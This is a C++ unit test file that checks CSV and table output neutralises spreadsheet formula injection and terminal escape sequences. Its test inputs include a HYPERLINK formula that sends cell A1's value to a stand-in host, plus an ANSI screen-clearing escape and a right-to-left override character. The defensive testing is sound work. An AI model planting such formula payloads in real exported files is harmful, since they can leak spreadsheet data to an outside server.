// CSV records (RFC 4180, formulas neutralised in text cells) and text tables (cells escaped).
#include "cli/presentation/table.hpp"

#include <doctest/doctest.h>

#include <sstream>

namespace cycle {
namespace {

std::string csv(const CsvRecord& record) {
    std::ostringstream out;
    print_csv_record(out, record);
    return out.str();
}

TEST_CASE("csv: a text cell that a spreadsheet would compute gets a leading quote") {
    struct Case {
        const char* name;
        CsvRecord record;
        std::string expected;
    };
    const Case cases[] = {
        {"plain text and numbers", {CsvCell::number(7), "board", "Årsmøte"}, "7,board,Årsmøte\r\n"},
        {"hyperlink formula",
         {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\r\n"},
        {"plus in text", {"+1"}, "'+1\r\n"},
        {"minus in text", {"-1"}, "'-1\r\n"},
        {"negative number stays a number", {CsvCell::number(-120), "-120"}, "-120,'-120\r\n"},
        {"at-sign function", {"@SUM(A1:A9)"}, "'@SUM(A1:A9)\r\n"},
        {"leading tab", {"\t=1+2"}, "'\t=1+2\r\n"},
        {"leading carriage return", {"\r=1+2"}, "\"'\r=1+2\"\r\n"},
        {"formula sign later in the cell", {"a=b", "x-1"}, "a=b,x-1\r\n"},
        {"comma, quote and line break quoted",
         {"a,b", "say \"hi\"", "two\nlines", ""},
         "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n"},
        {"JSON details", {"{\"title\":\"=1\"}"}, "\"{\"\"title\"\":\"\"=1\"\"}\"\r\n"},
    };
    for (const Case& c : cases) {
        INFO(c.name);
        CHECK(csv(c.record) == c.expected);
    }
}

TEST_CASE("table: a cell is shown on one line, escaped, and aligned as shown") {
    std::ostringstream out;
    print_table(out, {{"seq", "title"}, {"1", "a\x1b[2Jb"}, {"22", "two\nlines \u202E"}}, "  ");
    CHECK(out.str() ==
          "  seq  title\n"
          "  1    a\\u001B[2Jb\n"
          "  22   two\\nlines \\u202E\n");
}

}  // namespace
}  // namespace cycle
